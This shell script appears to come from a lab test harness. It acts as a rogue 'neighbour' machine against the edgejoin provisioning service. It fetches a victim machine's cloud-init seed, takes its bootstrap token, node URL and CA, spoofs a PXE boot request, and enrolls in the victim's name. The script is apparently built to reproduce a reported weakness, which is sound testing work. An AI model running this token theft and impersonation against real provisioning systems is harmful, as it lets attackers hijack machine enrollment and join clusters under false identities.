#!/bin/sh
# The neighbour of issue 9: another machine on the site LAN (the lab guest image, its own DHCP
# address) that waits for the lab's signal, fetches a joined machine's NoCloud seed and enrolls
# as that machine with whatever the seed gives it: the bootstrap token, the node URL, the CA. It
# does what edgejoin's agent does (POSIX sh + curl), only with a MAC that is not its own, after
# an anonymous /boot.ipxe sighting in that machine's name with another identity, and says what
# it got on the serial console, one "edgejoin-neighbour:" line per step. Before the signal, as
# soon as it is up (the lab powers the victim on only after that), it reads the victim's seed
# once and keeps the token: a seed is public until its machine enrolls, so a neighbour that
# knows a MAC can hold a valid token for it; after the signal it enrolls with that one too.
#   neighbour.sh VICTIM_MAC BASE_URL
set -u
VICTIM=$1
BASE=${2%/}
OUT=/run/edgejoin-neighbour
mkdir -p "$OUT"
CONSOLE=${EDGEJOIN_NEIGHBOUR_CONSOLE:-/dev/ttyS0}
say() { echo "edgejoin-neighbour: $*" >"$CONSOLE"; }

ip=$(hostname -I | tr ' ' '\n' | grep -E '^[0-9]+(\.[0-9]+){3}$' | head -n 1)
say "up at ${ip:-no address}; waiting for the signal to play $VICTIM"

# The agent's state files from a seed, into folder $2: from a plain cloud-config or from
# autoinstall's nested user-data.
agent_files() {
	python3 - "$1" "$2" <<'PY'
import os, sys, yaml
seed, out = sys.argv[1], sys.argv[2]
os.makedirs(out, exist_ok=True)
try:
    d = yaml.safe_load(open(seed)) or {}
except Exception:
    d = {}
if isinstance(d, dict) and "autoinstall" in d:
    d = (d["autoinstall"] or {}).get("user-data") or {}
for f in (d.get("write_files") or []) if isinstance(d, dict) else []:
    p = str(f.get("path", ""))
    if p.startswith("/var/lib/edgejoin-agent/"):
        with open(out + "/" + p.rsplit("/", 1)[1], "w") as w:
            w.write(str(f.get("content", "")))
PY
}
first() { [ -s "$1" ] && head -n 1 "$1" | tr -d '\r\n'; }

code=$(curl -sS -m 20 -o "$OUT/captured-user-data" -w '%{http_code}' "$BASE/cloud-init/$VICTIM/user-data") || code=000
agent_files "$OUT/captured-user-data" "$OUT/captured"
captured=$(first "$OUT/captured/bootstrap-token") || captured=""
say "captured: HTTP $code, token $([ -n "$captured" ] && echo yes || echo none) from the seed of $VICTIM before it enrolled"

# The victim's whole life comes first (installer, reboot, enroll, join): a quarter of an hour at most.
i=0
until curl -fsS -m 5 -o /dev/null "$BASE/artifacts/lab-neighbour/go"; do
	i=$((i + 1))
	if [ "$i" -ge 1800 ]; then
		say "RESULT gave up waiting for the signal"
		exit 1
	fi
	sleep 1
done

seed=$(curl -sS -m 20 -o "$OUT/user-data" -w '%{http_code}' "$BASE/cloud-init/$VICTIM/user-data") || seed=000
say "seed of $VICTIM: HTTP $seed, $(wc -c <"$OUT/user-data") bytes"
agent_files "$OUT/user-data" "$OUT/victim"
token=$(first "$OUT/victim/bootstrap-token") || token=""
node=$(first "$OUT/victim/node-url") || node=""
ca="$OUT/victim/ca.pem"
if [ -z "$token" ] || [ -z "$node" ]; then
	# The victim's seed gives nothing to enroll with: take what any machine's seed gives, here the
	# neighbour's own (its MAC, a fresh token for it, the node URL and the CA), and enroll in the
	# victim's name with that token.
	own=$(cat /sys/class/net/"$(ip -4 route show default | awk '{ print $5; exit }')"/address 2>/dev/null)
	curl -sS -m 20 -o "$OUT/own-user-data" "$BASE/cloud-init/$own/user-data" || true
	agent_files "$OUT/own-user-data" "$OUT/own"
	[ -n "$token" ] || token=$(first "$OUT/own/bootstrap-token") || token=""
	[ -n "$node" ] || node=$(first "$OUT/own/node-url") || node=""
	[ -s "$ca" ] || ca="$OUT/own/ca.pem"
	say "the victim's seed has no token or node URL: using the neighbour's own seed ($own)"
fi
[ -n "$node" ] || node=$BASE
node=${node%/}
say "stolen: token $([ -n "$token" ] && echo yes || echo none), node URL $node, CA $([ -s "$ca" ] && echo yes || echo none)"

# An anonymous sighting in the victim's name with another identity (SMBIOS UUID, serial, arch):
# what would the victim's next PXE boot run?
q="mac=$VICTIM&uuid=6e0a51b0-0000-4000-8000-00000000ab99&serial=NEIGHBOUR&arch=arm64&platform=efi&manufacturer=lab&product=neighbour"
script=$(curl -sS -m 20 "$BASE/boot.ipxe?$q" | sed -n 's/^echo edgejoin: //p' | head -n 1)
case $script in
*"is installed - booting from its local disk"*) boot=local-disk ;;
installing*) boot=installer ;;
*) boot=other ;;
esac
say "boot script for $VICTIM: $script"

printf '{"token":"%s","mac":"%s","hostname":"neighbour","ip":"%s","facts":{"agent":"edgejoin-neighbour"}}' "$token" "$VICTIM" "$ip" >"$OUT/enroll.json"
set -- -sS -m 30 -o "$OUT/enroll.out" -w '%{http_code}' -H 'Content-Type: application/json' --data-binary "@$OUT/enroll.json"
[ -s "$ca" ] && set -- "$@" --cacert "$ca"
code=$(curl "$@" "$node/api/v1/enroll" 2>"$OUT/curl.err") || code=000
victim_token=$([ -s "$OUT/victim/bootstrap-token" ] && echo yes || echo none)

# The token captured before the victim enrolled: valid, the victim's MAC, its cluster.
ccode=none
if [ -n "$captured" ]; then
	cnode=$(first "$OUT/captured/node-url") || cnode=$node
	cnode=${cnode%/}
	printf '{"token":"%s","mac":"%s"}' "$captured" "$VICTIM" >"$OUT/enroll-captured.json"
	set -- -sS -m 30 -o "$OUT/enroll-captured.out" -w '%{http_code}' -H 'Content-Type: application/json' --data-binary "@$OUT/enroll-captured.json"
	[ -s "$OUT/captured/ca.pem" ] && set -- "$@" --cacert "$OUT/captured/ca.pem"
	ccode=$(curl "$@" "$cnode/api/v1/enroll" 2>>"$OUT/curl.err") || ccode=000
fi
say "CAPTURED status=$ccode body=$(head -c 600 "$OUT/enroll-captured.out" 2>/dev/null | tr -d '\r\n')"
say "RESULT status=$code token=$victim_token ip=$ip boot=$boot body=$(head -c 600 "$OUT/enroll.out" 2>/dev/null | tr -d '\r\n') curl=$(head -c 200 "$OUT/curl.err" | tr -d '\r\n')"
